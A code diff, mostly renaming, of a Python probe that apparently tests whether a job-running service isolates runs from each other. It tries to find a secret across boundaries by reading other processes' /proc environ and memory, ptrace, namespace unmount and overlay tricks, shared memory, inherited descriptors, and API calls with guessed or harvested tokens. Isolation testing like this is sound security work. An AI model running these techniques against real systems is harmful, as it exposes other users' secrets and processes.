@@ -1,7 +1,7 @@
-"""Looks for a text wherever a process can look. Sent as a run it is an attack; called by root it finds everything.
+"""Searches for a text everywhere a process can read. As a run it is an attack; as root it finds everything.
 
-Standard library only, because it travels as the code of a run. The text comes in two pieces, so that the intruder does
-not find itself.
+It uses only the standard library, because it is submitted as the code of a run. The text is passed in two pieces, so
+that the attacker does not find itself.
 """
 
 import contextlib
@@ -15,9 +15,9 @@ from functools import partial
 from typing import Any
 from urllib.parse import urlsplit
 
-LARGEST = 64 << 20
-OF_PROCESSES = ("environ", "cmdline", "auxv", "maps", "smaps", "stack", "syscall", "io", "mountinfo", "wchan")
-NEW_USERS_AND_MOUNTS = 0x10000000 | 0x00020000
+MAX_SIZE = 64 << 20
+PROC_FILES = ("environ", "cmdline", "auxv", "maps", "smaps", "stack", "syscall", "io", "mountinfo", "wchan")
+NEW_NAMESPACES = 0x10000000 | 0x00020000
 BIND, DETACH = 4096, 2
 ATTACH, SEIZE = 16, 0x4206
 SHARED_KEY, READ_ONLY = 0x46414952, 0o10000
@@ -33,30 +33,30 @@ libc.shmat.restype = ctypes.c_void_p
 def main(**known: Any) -> dict[str, list[str]]:
     """The findings of each attack; empty if all failed."""
     mark = "".join(known["pieces"]).encode()
-    return {name: sorted(set(WAYS[name](mark, known))) for name in known.get("ways") or WAYS}
+    return {name: sorted(set(ATTACKS[name](mark, known))) for name in known.get("attacks") or ATTACKS}
 
 
 def read_files(mark: bytes, known: Known) -> Iterator[str]:
     """Read files at known paths."""
-    yield from (path for path in known["paths"] if holds(mark, path))
+    yield from (path for path in known["paths"] if contains(mark, path))
 
 
 def walk_folders(mark: bytes, known: Known) -> Iterator[str]:
-    """Whatever lies in some folders and below, by name and by content."""
+    """Search known folders recursively by name and content."""
     for folder in known["folders"]:
-        for above, folders, files in os.walk(folder):
+        for parent, folders, files in os.walk(folder):
             for name in (*folders, *files):
-                path = os.path.join(above, name)
-                if mark in os.fsencode(name) or (name in files and holds(mark, path)):
+                path = os.path.join(parent, name)
+                if mark in os.fsencode(name) or (name in files and contains(mark, path)):
                     yield path
 
 
-def look_into_processes(mark: bytes, known: Known) -> Iterator[str]:
+def read_proc(mark: bytes, known: Known) -> Iterator[str]:
     """Read /proc of other processes, and files through it."""
     for pid in _targets(known):
-        yield from (f"{pid}/{name}" for name in OF_PROCESSES if holds(mark, f"/proc/{pid}/{name}"))
+        yield from (f"{pid}/{name}" for name in PROC_FILES if contains(mark, f"/proc/{pid}/{name}"))
         for view in ("root", "cwd", f"task/{pid}/root"):
-            yield from (f"{pid}/{view}" for path in known["paths"] if holds(mark, f"/proc/{pid}/{view}{path}"))
+            yield from (f"{pid}/{view}" for path in known["paths"] if contains(mark, f"/proc/{pid}/{view}{path}"))
         for kind in ("fd", "map_files", "ns"):
             with contextlib.suppress(OSError):
                 for name in os.listdir(f"/proc/{pid}/{kind}"):
@@ -65,39 +65,39 @@ def look_into_processes(mark: bytes, known: Known) -> Iterator[str]:
 
 
 def trace_processes(mark: bytes, known: Known) -> Iterator[str]:
-    """Processes that can be traced, or whose memory can be read."""
+    """Trace other processes, or read their memory."""
     del mark
     for pid in _targets(known):
-        yield from (f"{pid}: {word}" for word in _in_a_child(partial(_trace, pid)))
+        yield from (f"{pid}: {finding}" for finding in _in_child_process(partial(_trace, pid)))
 
 
 def send_signals(mark: bytes, known: Known) -> Iterator[str]:
-    """Processes that could be killed. Signal 0 needs the same permission."""
+    """Send signal 0 to processes, which needs the same permission as killing them."""
     del mark
     for pid in _targets(known):
         for target in (pid, -pid):
             with contextlib.suppress(OSError):
-                if target != -1:  # which are all that there are, and the intruder among them
+                if target != -1:  # -1 would include the attacker itself
                     os.kill(target, 0)
                     yield str(target)
 
 
-def uncover_folders(mark: bytes, known: Known) -> Iterator[str]:
-    """Unmount from inside a user namespace, and read the covered files."""
+def read_covered_folders(mark: bytes, known: Known) -> Iterator[str]:
+    """Read files that are covered by mounts, from inside a new user namespace."""
     for uncover in (_unmount, _bind, _overlay):
-        yield from _in_a_child(partial(_see_uncovered, mark, known, uncover))
+        yield from _in_child_process(partial(_read_uncovered, mark, known, uncover))
 
 
-def share_memory(mark: bytes, known: Known) -> Iterator[str]:
-    """Memory that another process offers to all."""
+def read_shared_memory(mark: bytes, known: Known) -> Iterator[str]:
+    """Read a shared memory segment of another process."""
     del known
     segment = libc.shmget(SHARED_KEY, 0, 0)
-    at = libc.shmat(segment, None, READ_ONLY) if segment >= 0 else None
-    if at not in (None, ctypes.c_void_p(-1).value) and mark in ctypes.string_at(at, len(mark)):
+    address = libc.shmat(segment, None, READ_ONLY) if segment >= 0 else None
+    if address not in (None, ctypes.c_void_p(-1).value) and mark in ctypes.string_at(address, len(mark)):
         yield f"segment {segment}"
 
 
-def find_what_was_passed_on(mark: bytes, known: Known) -> Iterator[str]:
+def find_inherited(mark: bytes, known: Known) -> Iterator[str]:
     """Inherited variables, file descriptors and server sockets."""
     yield from (name for name, value in os.environ.items() if mark in value.encode() or "fl_" in value)
     for number in os.listdir("/proc/self/fd"):
@@ -109,45 +109,45 @@ def find_what_was_passed_on(mark: bytes, known: Known) -> Iterator[str]:
         yield from (line for line in sockets if any(folder in line for folder in known["folders"]))
 
 
-def ask_the_server(mark: bytes, known: Known) -> Iterator[str]:
-    """Every operation, without a token and with whatever looks like one."""
-    told = [value for name, value in os.environ.items() if name.startswith("FAIRLEAD_")]
-    words = known.get("tokens") or [None, *GUESSES, *told]
+def send_requests(mark: bytes, known: Known) -> Iterator[str]:
+    """Send every request without a token and with possible tokens."""
+    values = [value for name, value in os.environ.items() if name.startswith("FAIRLEAD_")]
+    tokens = known.get("tokens") or [None, *GUESSES, *values]
     for method, path, body, public in known["operations"]:
-        for word in words if not public else words[:1]:
-            status, content = _ask(known["url"], method, path, body, word)
-            if mark in _unpacked(content) or (status != 401 and not public):
-                yield f"{method} {path} with {word}: {status}"
+        for token in tokens if not public else tokens[:1]:
+            status, content = _send(known["url"], method, path, body, token)
+            if mark in _decompress(content) or (status != 401 and not public):
+                yield f"{method} {path} with {token}: {status}"
 
 
-WAYS: dict[str, Callable[[bytes, Known], Iterator[str]]] = {
-    way.__name__: way
-    for way in (
+ATTACKS: dict[str, Callable[[bytes, Known], Iterator[str]]] = {
+    attack.__name__: attack
+    for attack in (
         read_files,
         walk_folders,
-        look_into_processes,
+        read_proc,
         trace_processes,
         send_signals,
-        uncover_folders,
-        share_memory,
-        find_what_was_passed_on,
-        ask_the_server,
+        read_covered_folders,
+        read_shared_memory,
+        find_inherited,
+        send_requests,
     )
 }
 
 
-def holds(mark: bytes, path: str) -> bool:
-    """Whether a text stands in a file that can be read."""
+def contains(mark: bytes, path: str) -> bool:
+    """Whether a file is readable and contains a text."""
     try:
-        opened = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
+        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
     except OSError:
         return False
-    with contextlib.suppress(OSError), os.fdopen(opened, "rb", buffering=0) as file:
-        return mark in _unpacked(b"".join(iter(lambda: file.read(1 << 20), b""))[:LARGEST])
+    with contextlib.suppress(OSError), os.fdopen(descriptor, "rb", buffering=0) as file:
+        return mark in _decompress(b"".join(iter(lambda: file.read(1 << 20), b""))[:MAX_SIZE])
     return False
 
 
-def _unpacked(content: bytes) -> bytes:
+def _decompress(content: bytes) -> bytes:
     if content[:2] == b"\x1f\x8b":
         with contextlib.suppress(OSError, EOFError):
             return gzip.decompress(content)
@@ -156,53 +156,53 @@ def _unpacked(content: bytes) -> bytes:
 
 def _targets(known: Known) -> list[int]:
     """Known processes and visible ones, except this one; root skips the latter."""
-    seen = [] if os.getuid() == 0 else [int(name) for name in os.listdir("/proc") if name.isdigit()]
-    return [pid for pid in {*seen, *known["pids"]} if pid != os.getpid()]
+    visible = [] if os.getuid() == 0 else [int(name) for name in os.listdir("/proc") if name.isdigit()]
+    return [pid for pid in {*visible, *known["pids"]} if pid != os.getpid()]
 
 
-def _in_a_child(search: Callable[[], Iterator[str]]) -> list[str]:
+def _in_child_process(search: Callable[[], Iterator[str]]) -> list[str]:
     """Run an attack in a child process, so that its side effects end with it."""
     reading, writing = os.pipe()
     child = os.fork()
     if child == 0:
         try:
-            found = list(search())
-        except BaseException as error:  # report any error: an empty result means success
-            found = [repr(error)]
-        os.write(writing, json.dumps(found).encode())
+            findings = list(search())
+        except BaseException as error:  # report any error, because an empty result means that the attack failed
+            findings = [repr(error)]
+        os.write(writing, json.dumps(findings).encode())
         os._exit(0)
     os.close(writing)
-    with os.fdopen(reading, "rb") as told:
-        text = told.read()
+    with os.fdopen(reading, "rb") as pipe:
+        text = pipe.read()
     os.waitpid(child, 0)
     return list(json.loads(text))
 
 
 def _trace(pid: int) -> Iterator[str]:
-    for how in (SEIZE, ATTACH):
-        if libc.ptrace(how, pid, None, None) == 0:
+    for request in (SEIZE, ATTACH):
+        if libc.ptrace(request, pid, None, None) == 0:
             yield "traced"
     with contextlib.suppress(OSError), open(f"/proc/{pid}/mem", "rb"):
         yield "memory"
-    here = (ctypes.c_void_p * 2)(ctypes.addressof(ctypes.create_string_buffer(8)), 8)
-    there = (ctypes.c_void_p * 2)(1 << 30, 8)
+    local_buffer = (ctypes.c_void_p * 2)(ctypes.addressof(ctypes.create_string_buffer(8)), 8)
+    remote_buffer = (ctypes.c_void_p * 2)(1 << 30, 8)
     ctypes.set_errno(0)
-    libc.process_vm_readv(pid, here, 1, there, 1, 0)
-    if ctypes.get_errno() not in (1, 3, 38):  # may not, is not there, is not known
+    libc.process_vm_readv(pid, local_buffer, 1, remote_buffer, 1, 0)
+    if ctypes.get_errno() not in (1, 3, 38):  # EPERM, ESRCH, ENOSYS
         yield "read"
 
 
-def _see_uncovered(mark: bytes, known: Known, uncover: Callable[[str], str]) -> Iterator[str]:
+def _read_uncovered(mark: bytes, known: Known, uncover: Callable[[str], str]) -> Iterator[str]:
     ids = os.getuid(), os.getgid()
-    if libc.unshare(NEW_USERS_AND_MOUNTS) != 0:
+    if libc.unshare(NEW_NAMESPACES) != 0:
         return
     for name, line in (("setgroups", "deny"), ("uid_map", f"0 {ids[0]} 1"), ("gid_map", f"0 {ids[1]} 1")):
         with open(f"/proc/self/{name}", "w", encoding="ascii") as file:
             file.write(line)
     for folder in known["folders"]:
-        seen = uncover(folder)
+        path_prefix = uncover(folder)
         for path in known["paths"]:
-            if path.startswith(f"{folder}/") and holds(mark, seen + path[len(folder) :]):
+            if path.startswith(f"{folder}/") and contains(mark, path_prefix + path[len(folder) :]):
                 yield f"{uncover.__name__} {path}"
 
 
@@ -213,24 +213,24 @@ def _unmount(folder: str) -> str:
 
 
 def _bind(folder: str) -> str:
-    """The folder without what is mounted in it."""
-    above, name = os.path.split(folder)
-    libc.mount(above.encode(), b"/mnt", None, BIND, None)
+    """Bind-mount the parent folder without its submounts."""
+    parent, name = os.path.split(folder)
+    libc.mount(parent.encode(), b"/mnt", None, BIND, None)
     return f"/mnt/{name}"
 
 
 def _overlay(folder: str) -> str:
-    """Read the file through a bind mount of the file system root."""
-    above, name = os.path.split(folder)
-    libc.mount(b"overlay", b"/mnt", b"overlay", 0, f"lowerdir={above}:/etc".encode())
+    """Mount the parent folder as a lower layer of an overlay."""
+    parent, name = os.path.split(folder)
+    libc.mount(b"overlay", b"/mnt", b"overlay", 0, f"lowerdir={parent}:/etc".encode())
     return f"/mnt/{name}"
 
 
-def _ask(url: str, method: str, path: str, body: Any, word: str | None) -> tuple[int, bytes]:
+def _send(url: str, method: str, path: str, body: Any, token: str | None) -> tuple[int, bytes]:
     connection = http.client.HTTPConnection(urlsplit(url).netloc, timeout=60)
-    headers = {} if word is None else {"Authorization": f"Bearer {word}", "Cookie": f"fairlead_session={word}"}
+    headers = {} if token is None else {"Authorization": f"Bearer {token}", "Cookie": f"fairlead_session={token}"}
     with contextlib.closing(connection):
         content = None if body is None else json.dumps(body).encode()
         connection.request(method, path, content, headers | {"Content-Type": "application/json"})
-        answer = connection.getresponse()
-        return answer.status, answer.read()
+        response = connection.getresponse()
+        return response.status, response.read()
